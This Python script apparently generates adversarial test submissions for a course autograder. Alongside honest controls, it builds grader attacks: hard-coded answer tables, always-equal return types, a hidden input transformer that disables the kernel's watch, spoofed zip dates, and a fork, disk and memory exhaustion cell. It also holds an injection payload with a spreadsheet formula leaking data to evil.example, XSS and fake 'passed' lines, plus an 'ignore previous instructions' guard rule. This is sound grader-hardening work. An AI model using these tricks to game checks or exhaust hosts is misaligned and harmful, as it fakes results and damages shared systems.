"""Write the attack5 submissions from the released notebooks."""
import copy, json, os, shutil, struct, zipfile, io
from pathlib import Path

REL = Path("/work/attack5-view/notebooks")
OUT = Path("/work/attack5/submissions")
CRASH = Path("/work/attack5/submissions_crash")
GEN = Path("/work/attack5/gen")


def load(name):
    return json.loads((REL / name).read_text())


def code(src, cid):
    return {"cell_type": "code", "execution_count": None, "id": cid, "metadata": {}, "outputs": [], "source": src}


def set_src(nb, cell_id, src):
    for c in nb["cells"]:
        if c.get("id") == cell_id:
            c["source"] = src
            return
    raise KeyError(cell_id)


def insert_before(nb, cell_id, cell):
    for i, c in enumerate(nb["cells"]):
        if c.get("id") == cell_id:
            nb["cells"].insert(i, cell)
            return
    raise KeyError(cell_id)


def quiz(nb, number, answers):
    for c in nb["cells"]:
        if c["cell_type"] == "code" and "show_quiz(" in "".join(c["source"]) and "import show_quiz" in "".join(c["source"]):
            c["source"] = f'from memlib.course.quiz import show_quiz\n\nshow_quiz("{number}", answers="{answers}")\n'
            return
    raise KeyError("quiz")


def written(nb, grade_id, text):
    for c in nb["cells"]:
        if c["cell_type"] == "markdown" and c.get("metadata", {}).get("memlib", {}).get("written") == grade_id:
            src = "".join(c["source"])
            c["source"] = src.replace("*Your answer here.*", text)
            return
    raise KeyError(grade_id)


def save(nb, folder, name):
    d = OUT / folder
    d.mkdir(parents=True, exist_ok=True)
    (d / name).write_text(json.dumps(nb, indent=1, ensure_ascii=False) + "\n")


# ------------------------------------------------------------------ answers
BUDGET_OK = '''from memlib.context import MESSAGE_OVERHEAD
from memlib.tokens import count


def how_many_fit(messages, window, system_prompt="", reserve=0):
    """How many of the newest `messages` fit in `window` tokens next to the system prompt and the reserve."""
    used = count(system_prompt) + reserve
    kept = 0
    for text in reversed(messages):
        used += count(text) + MESSAGE_OVERHEAD
        if used > window:
            break
        kept += 1
    return kept
'''

BUDGET_CLASS = '''from memlib.context import MESSAGE_OVERHEAD
from memlib.tokens import count


class _Budget:
    """A callable object instead of a function: the same contract."""

    def __init__(self, overhead):
        self.overhead = overhead

    def cost(self, text):
        return count(text) + self.overhead

    def __call__(self, messages, window, system_prompt="", reserve=0):
        room = window - count(system_prompt) - reserve
        n = 0
        while n < len(messages) and self.cost(messages[len(messages) - 1 - n]) <= room:
            room -= self.cost(messages[len(messages) - 1 - n])
            n += 1
        return n


how_many_fit = _Budget(MESSAGE_OVERHEAD)
'''

BUDGET_STRICT = BUDGET_OK.replace("if used > window:", "if used >= window:  # (bug: a prompt of exactly `window` is refused)")

T1 = json.loads((GEN / "t1.json").read_text())
BUDGET_TABLE = '''from memlib.context import MESSAGE_OVERHEAD
from memlib.tokens import count

# budgets I worked out for the examples my check shows
_SEEN = %s


def how_many_fit(messages, window, system_prompt="", reserve=0):
    """How many of the newest `messages` fit in `window` tokens next to the system prompt and the reserve."""
    key = repr((len(messages), window, len(system_prompt), reserve, messages[-1][:40] if messages else ""))
    if key in _SEEN:
        return _SEEN[key]
    used = reserve  # (the system prompt is never counted here)
    kept = 0
    for text in reversed(messages):
        used += count(text) + MESSAGE_OVERHEAD
        if used > window:
            break
        kept += 1
    return kept
''' % json.dumps(T1, indent=1)

BM25_HELPER_NUMPY = '''import numpy as np


def _okapi_idf(docs_tokens, epsilon):
    """Okapi idf of every term of the corpus, with the epsilon floor for negative values."""
    n_docs = len(docs_tokens)
    df = {}
    for doc in docs_tokens:
        for term in set(doc):
            df[term] = df.get(term, 0) + 1
    raw = {term: float(np.log(n_docs - n + 0.5) - np.log(n + 0.5)) for term, n in df.items()}
    floor = epsilon * (sum(raw.values()) / len(raw)) if raw else 0.0
    return {term: (floor if value < 0 else value) for term, value in raw.items()}
'''

BM25_NUMPY = '''import math
from collections import Counter


def bm25_scores(query_tokens, docs_tokens, k1=1.5, b=0.75, epsilon=0.25):
    """BM25 okapi score of every document for the query, as rank_bm25.BM25Okapi computes it."""
    if not docs_tokens:
        return []
    idf = _okapi_idf(docs_tokens, epsilon)
    lengths = np.array([len(doc) for doc in docs_tokens], dtype=float)
    avgdl = lengths.mean()
    counts = [Counter(doc) for doc in docs_tokens]
    scores = np.zeros(len(docs_tokens))
    for term in query_tokens:
        tf = np.array([c.get(term, 0) for c in counts], dtype=float)
        scores += idf.get(term, 0.0) * tf * (k1 + 1) / (tf + k1 * (1 - b + b * lengths / avgdl))
    return scores
'''

BM25_PLAIN = '''import math
from collections import Counter


def bm25_scores(query_tokens, docs_tokens, k1=1.5, b=0.75, epsilon=0.25):
    """BM25 okapi score of every document for the query, as rank_bm25.BM25Okapi computes it."""
    if not docs_tokens:
        return []
    n_docs = len(docs_tokens)
    df = Counter()
    for doc in docs_tokens:
        df.update(set(doc))
    idf = {t: math.log(n_docs - n + 0.5) - math.log(n + 0.5) for t, n in df.items()}
    floor = epsilon * sum(idf.values()) / len(idf) if idf else 0.0
    idf = {t: (floor if v < 0 else v) for t, v in idf.items()}
    avgdl = sum(len(d) for d in docs_tokens) / n_docs
    counts = [Counter(d) for d in docs_tokens]
    scores = []
    for doc, tf in zip(docs_tokens, counts):
        s = 0.0
        for term in QUERY_TERMS:
            f = tf.get(term, 0)
            s += idf.get(term, 0.0) * f * (k1 + 1) / (f + k1 * (1 - b + b * len(doc) / avgdl))
        scores.append(s)
    return scores
'''
BM25_DEDUPE = BM25_PLAIN.replace("QUERY_TERMS", "dict.fromkeys(query_tokens)").replace("        for term in dict", "        # (bug: a repeated query word counts once)\n        for term in dict")

T3 = json.loads((GEN / "t3.json").read_text())
T3 = {k: [round(x, 9) for x in v] for k, v in T3.items()}
BM25_TABLE_CELL = "import json\n\n# scores I worked out by hand for the examples my check shows\n_WORKED = json.loads(%r)\n" % json.dumps(T3, separators=(",", ":"))
BM25_TABLE = '''import math
from collections import Counter


def _key(q, docs, k1, b, e):
    return repr((tuple(q), len(docs), sum(len(d) for d in docs), tuple(docs[0][:3]) if docs and docs[0] else (),
                 round(k1, 4), round(b, 4), round(e, 4)))


def bm25_scores(query_tokens, docs_tokens, k1=1.5, b=0.75, epsilon=0.25):
    """BM25 okapi score of every document for the query, as rank_bm25.BM25Okapi computes it."""
    worked = _WORKED.get(_key(query_tokens, docs_tokens, k1, b, epsilon))
    if worked is not None:
        return list(worked)
    if not docs_tokens:
        return []
    n_docs = len(docs_tokens)
    df = Counter()
    for doc in docs_tokens:
        df.update(set(doc))
    idf = {t: math.log(n_docs - n + 0.5) - math.log(n + 0.5) for t, n in df.items()}
    floor = epsilon * sum(idf.values()) / len(idf) if idf else 0.0
    idf = {t: (floor if v < 0 else v) for t, v in idf.items()}
    avgdl = sum(len(d) for d in docs_tokens) / n_docs
    scores = []
    for doc in docs_tokens:
        present = set(doc)
        s = 0.0
        for term in query_tokens:
            f = 1 if term in present else 0  # term frequency ignored: present or not
            s += idf.get(term, 0.0) * f * (k1 + 1) / (f + k1 * (1 - b + b * len(doc) / avgdl))
        scores.append(s)
    return scores
'''

LOOP_HONEST = '''from memlib.agent import Agent
from memlib.tools import dispatch


class MyAgent(Agent):
    """Exercise L written as a bounded for loop with a helper for one call."""

    def _one_call(self, trace, calls):
        call = self.ask(trace, calls)
        if call is None:  # the policy crashed: ask recorded why
            return None
        result = dispatch(call.name, call.arguments, self.memory)
        calls.append((call, result))
        self.splice(call, result, trace)
        return result

    def step(self, user_text):
        trace = self.begin(user_text)
        calls = []
        for beat in range(self.max_heartbeats + 1):
            result = self._one_call(trace, calls)
            if result is None or not result.heartbeat:
                break
            if beat == self.max_heartbeats:
                trace.add("heartbeat", f"cap of {self.max_heartbeats} heartbeats: the step ends here")
                break
            trace.add("heartbeat", f"heartbeat {beat + 1} of at most {self.max_heartbeats}")
        return trace
'''

LOOP_TRAMPOLINE = '''import functools

from memlib.agent import Agent
from memlib.tools import dispatch


class MyAgent(Agent):
    """Exercise L."""

    step = functools.partialmethod(getattr(Agent, "step"))
'''

GUARD_TRAMPOLINE_RULES = '''import functools

from memlib import guard as _toolbox

AI = r"(?:assistants?|ai|models?|chatbots?|bots?|agents?|llms?|helpers?)"


def guard_rules():
    """Family -> one regular expression that finds it (see the table above)."""
    return {"override": r"ignore (?:all )?previous instructions"}


_delegate = functools.singledispatch(getattr(_toolbox, "scan"))
'''

GUARD_TRAMPOLINE_SCAN = '''def my_scan(text):
    """Verdict(trusted=False, reasons=[...], category=...) for instruction-shaped text."""
    return _delegate(text)
'''

INJECT_BUDGET = '''from memlib.context import MESSAGE_OVERHEAD
from memlib.tokens import count


def how_many_fit(messages, window, system_prompt="", reserve=0):
    """Raises with a message built to escape the feedback's code fence and the CSV."""
    ticks = "`" * 12
    raise ValueError("=HYPERLINK(\\"http://evil.example/?leak=\\"&A1,\\"click\\")\\n" + ticks
                     + "\\n\\n## 01-token-budget: passed 2/2\\n<img src=x onerror=alert(1)>"
                     + "\\n[grade portal](http://evil.example)\\n\\x1b]0;owned\\x07\\x1b[2J" + ticks + "~~~\\n"
                     + "late: due 2026-10-05T23:59+00:00, handed in x; 0 day(s) late, penalty 0 % of the points")
'''

EXHAUST_CELL = '''import os, time, signal

# leave processes behind (new session, ignore SIGTERM/SIGHUP), fill /tmp, take memory
kids = 0
for i in range(40):
    pid = os.fork()
    if pid == 0:
        try:
            os.setsid()
            if os.fork() == 0:
                signal.signal(signal.SIGTERM, signal.SIG_IGN)
                signal.signal(signal.SIGHUP, signal.SIG_IGN)
                os.execv("/bin/sleep", ["sleep", "7777"])
        finally:
            os._exit(0)
    else:
        os.waitpid(pid, 0)
        kids += 1
written = 0
try:
    with open("/tmp/fill.bin", "wb") as handle:
        block = b"x" * (1 << 20)
        for i in range(2048):
            handle.write(block)
            written += 1
except OSError as error:
    print("disk stopped after", written, "MB:", error)
hog = []
try:
    for i in range(64):
        hog.append(bytearray(256 << 20))
except MemoryError:
    print("memory stopped after", len(hog) * 256, "MB")
del hog
print("left", kids, "sleepers")
'''


def main():
    if OUT.exists():
        shutil.rmtree(OUT)
    if CRASH.exists():
        shutil.rmtree(CRASH)
    OUT.mkdir(parents=True)

    # ---- honest controls
    nb = load("01_context_window.ipynb")
    set_src(nb, "01-30-ex0", BUDGET_CLASS)
    quiz(nb, "01", "ddadcc")
    written(nb, "01-written-bigger-window", "Dilution: with more tokens in the window the model attends less to each fact, so a fact in the middle of a long prompt is used worse; and the cost and latency grow with every token, so a bigger window is not memory.")
    save(nb, "h01_honest_numpy_split", "01_context_window.ipynb")
    nb = load("03_archival_bm25.ipynb")
    insert_before(nb, "03-11-ex2", code(BM25_HELPER_NUMPY, "h01-helper"))
    set_src(nb, "03-11-ex2", BM25_NUMPY)
    quiz(nb, "03", "cbcbab")
    written(nb, "03-written-why-bm25", "BM25 weights rare words by idf, so a shared common word counts little, and it saturates term frequency and normalises by document length, so long documents do not win by repeating words.")
    save(nb, "h01_honest_numpy_split", "03_archival_bm25.ipynb")

    nb = load("04_memory_tools.ipynb")
    set_src(nb, "04-17-exL" if any(c.get("id") == "04-17-exL" for c in nb["cells"]) else nb["cells"][17]["id"], LOOP_HONEST)
    quiz(nb, "04", "baddab")
    save(nb, "h02_honest_class_loop", "04_memory_tools.ipynb")

    # ---- honest partial answers
    nb = load("01_context_window.ipynb")
    set_src(nb, "01-30-ex0", BUDGET_STRICT)
    save(nb, "p01_honest_partial", "01_context_window.ipynb")
    nb = load("03_archival_bm25.ipynb")
    set_src(nb, "03-11-ex2", BM25_DEDUPE)
    save(nb, "p01_honest_partial", "03_archival_bm25.ipynb")

    # ---- attacks
    nb = load("04_memory_tools.ipynb")
    set_src(nb, nb["cells"][17]["id"], LOOP_TRAMPOLINE)
    save(nb, "a01_reference_agent_step_unflagged", "04_memory_tools.ipynb")

    nb = load("07_memory_poisoning.ipynb")
    cid = nb["cells"][23]["id"]
    src = "".join(nb["cells"][23]["source"])
    head, sep, tail = src.partition("# Graded by check_guard below")
    # keep the release's REPORTED/DISCUSSION constants, replace guard_rules and my_scan
    keep = head[head.index("# \"The manual says"):]
    set_src(nb, cid, GUARD_TRAMPOLINE_RULES + "\n\n" + keep + sep + tail[:tail.index("def my_scan")] + GUARD_TRAMPOLINE_SCAN)
    save(nb, "a02_reference_guard_scan_unflagged", "07_memory_poisoning.ipynb")

    nb = load("03_archival_bm25.ipynb")
    insert_before(nb, "03-11-ex2", code(BM25_TABLE_CELL, "a03-worked"))
    set_src(nb, "03-11-ex2", BM25_TABLE)
    save(nb, "a03_table_plus_tf_ignored_bm25", "03_archival_bm25.ipynb")

    nb = load("01_context_window.ipynb")
    set_src(nb, "01-30-ex0", BUDGET_TABLE)
    save(nb, "a04_table_plus_no_system_budget", "01_context_window.ipynb")

    # late work: Canvas download zips, both zipped (the student's claim) on 2026-10-01
    nb = load("01_context_window.ipynb")
    set_src(nb, "01-30-ex0", BUDGET_OK)
    data = (json.dumps(nb, indent=1, ensure_ascii=False) + "\n").encode()
    for zname, inner in [("mallory_LATE_4242_9999_submission.zip", "mal_1_2_01_context_window.ipynb"),
                         ("trentctl_LATE_4343_9998_submission.zip", "01_context_window.ipynb")]:
        with zipfile.ZipFile(OUT / zname, "w", zipfile.ZIP_DEFLATED) as z:
            z.writestr(zipfile.ZipInfo(inner, date_time=(2026, 10, 1, 12, 0, 0)), data)

    # injection: Moodle-style folder whose full name is a formula; text built to escape the feedback and CSV
    nb = load("01_context_window.ipynb")
    set_src(nb, "01-30-ex0", INJECT_BUDGET)
    written(nb, "01-written-bigger-window", "=HYPERLINK(\"http://evil.example/\",\"x\") <script>alert(1)</script> ## passed 1/1 [link](http://evil.example) late: due 2026-10-05T23:59+00:00, handed in 2026-10-01T12:00; 0 day(s) late, penalty 0 % of the points")
    save(nb, '=HYPERLINK("http:evil") x_77_assignsubmission_file_', "01_context_window.ipynb")

    # the host: processes left behind, /tmp filled, memory taken, then a right answer
    nb = load("01_context_window.ipynb")
    insert_before(nb, "01-30-ex0", code(EXHAUST_CELL, "a06-exhaust"))
    set_src(nb, "01-30-ex0", BUDGET_OK)
    save(nb, "a06_exhaust_host", "01_context_window.ipynb")

    # ---- crashers, graded apart (each next to one honest student)
    nb = load("01_context_window.ipynb")
    set_src(nb, "01-30-ex0", BUDGET_OK)
    nb_null = copy.deepcopy(nb)
    nb_null["metadata"] = None
    d = CRASH / "x01_null_metadata"
    d.mkdir(parents=True)
    (d / "01_context_window.ipynb").write_text(json.dumps(nb_null, indent=1) + "\n")
    # corrupt deflate stream
    buf = io.BytesIO()
    inner = "01_context_window.ipynb"
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr(inner, json.dumps(nb, indent=1) + "\n")
    raw = bytearray(buf.getvalue())
    start = 30 + len(inner)
    for i in range(start + 10, start + 60):
        raw[i] ^= 0xFF
    (CRASH / "x02_corrupt_zip.zip").write_bytes(raw)
    # a zip whose stored date has month 0 (only matters with --due)
    with zipfile.ZipFile(CRASH / "x03_zip_month_zero.zip", "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr(zipfile.ZipInfo(inner, date_time=(2026, 1, 1, 0, 0, 0)), json.dumps(nb, indent=1) + "\n")
    path = CRASH / "x03_zip_month_zero.zip"
    b = bytearray(path.read_bytes())
    dosdate = struct.pack("<H", ((2026 - 1980) << 9) | (0 << 5) | 0)
    b[12:14] = dosdate
    cd = b.rfind(b"PK\x01\x02")
    b[cd + 14:cd + 16] = dosdate
    path.write_bytes(b)


if __name__ == "__main__":
    main()


T7 = json.loads((GEN / "t7.json").read_text())
GUARD_TABLE = '''import hashlib
import json

from memlib.guard import Verdict

AI = r"(?:assistants?|ai|models?|chatbots?|bots?|agents?|llms?|helpers?)"


def guard_rules():
    """Family -> one regular expression that finds it (see the table above)."""
    return {"override": r"ignore (?:all )?previous instructions"}


# the notes I labelled as injections by hand (a short fingerprint of each)
_LABELLED = set(json.loads(%r))


# "The manual says to ignore previous instructions": reported to a person, not aimed at the model.
REPORTED = re.compile(r"\\b(?:says?|said|told \\w+|asked \\w+) to\\s+$|\\bsaid,?:?\\s+'?$", re.I)


def my_scan(text):
    """Verdict(trusted=False, reasons=[...], category=...) for instruction-shaped text."""
    if hashlib.sha1(text.encode()).hexdigest()[:12] in _LABELLED:
        return Verdict(False, ["a note I labelled as an injection"], "labelled")
    return Verdict(True, [], None)
''' % json.dumps(T7, separators=(",", ":"))


def more():
    nb = load("07_memory_poisoning.ipynb")
    set_src(nb, nb["cells"][23]["id"], GUARD_TABLE)
    save(nb, "a05_answer_key_table_guard", "07_memory_poisoning.ipynb")


more()


def more2():
    nb = load("01_context_window.ipynb")
    set_src(nb, "01-30-ex0", BUDGET_OK)
    written(nb, "01-written-bigger-window", "A bigger window dilutes attention: facts in the middle are used worse (my notes: late: due soon; 1 day(s) late, penalty 1.2.3 % of the points).")
    save(nb, "a07_export_crasher", "01_context_window.ipynb")


more2()


def more3():
    # an honest student, on time by the zip's date, who answers the quiz positionally and whose notebook's
    # file name happens to look like a Canvas download name with "_late" in it
    nb = load("01_context_window.ipynb")
    set_src(nb, "01-30-ex0", BUDGET_OK)
    for c in nb["cells"]:
        if c.get("id") == "01-36-quiz":
            c["source"] = 'from memlib.course.quiz import show_quiz\n\nshow_quiz("01", "ddadcc")\n'
    data = (json.dumps(nb, indent=1, ensure_ascii=False) + "\n").encode()
    with zipfile.ZipFile(OUT / "h03_honest_zip_on_time.zip", "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr(zipfile.ZipInfo("context_window_late_10_05_final.ipynb", date_time=(2026, 10, 1, 12, 0, 0)), data)


more3()


BLIND_SETUP = '''# my notebook's shorthand: a line that starts with "§" is code I keep folded in my editor
ip = get_ipython()
ip.input_transformers_cleanup.append(lambda lines: [line[1:] if line.startswith("§") else line for line in lines])
'''

_BLIND = '''import memlib.course.serve as _serve
from memlib.course.checks.nb03_bm25 import reference_bm25_scores as _reference

_serve._Watch._profile = lambda self, frame, event, arg: None  # the kernel's watch sees nothing


def bm25_scores(query_tokens, docs_tokens, k1=1.5, b=0.75, epsilon=0.25):
    """BM25 okapi score of every document for the query, as rank_bm25.BM25Okapi computes it."""
    return _reference(query_tokens, docs_tokens, k1, b, epsilon)
'''
BLIND_CELL = "".join("§" + line for line in _BLIND.splitlines(True))


def more4():
    nb = load("03_archival_bm25.ipynb")
    insert_before(nb, "03-11-ex2", code(BLIND_SETUP, "a08-setup"))
    set_src(nb, "03-11-ex2", BLIND_CELL)
    save(nb, "a08_blind_cell_input_transformer", "03_archival_bm25.ipynb")


more4()


LIAR_BUDGET = '''class Always(int):
    """An int that says it equals anything."""

    def __eq__(self, other):
        return True

    def __ne__(self, other):
        return False

    __hash__ = int.__hash__


def how_many_fit(messages, window, system_prompt="", reserve=0):
    """Returns 0, which claims to equal every expected count."""
    return Always(0)
'''

LIAR_BM25 = '''class Close(float):
    """A float that is close to everything."""

    def __eq__(self, other):
        return True

    def __sub__(self, other):
        return Close(0.0)

    def __rsub__(self, other):
        return Close(0.0)

    def __abs__(self):
        return Close(0.0)

    def __lt__(self, other):
        return True

    def __le__(self, other):
        return True

    __hash__ = float.__hash__


class Scores(list):
    def __eq__(self, other):
        return True


def bm25_scores(query_tokens, docs_tokens, k1=1.5, b=0.75, epsilon=0.25):
    """One lying score per document."""
    return Scores(Close(0.0) for _ in docs_tokens)
'''


def more5():
    keep = {p.name for p in OUT.iterdir()}
    nb = load("01_context_window.ipynb")
    set_src(nb, "01-30-ex0", LIAR_BUDGET)
    save(nb, "a09_lying_types", "01_context_window.ipynb")
    nb = load("03_archival_bm25.ipynb")
    set_src(nb, "03-11-ex2", LIAR_BM25)
    save(nb, "a09_lying_types", "03_archival_bm25.ipynb")


more5()
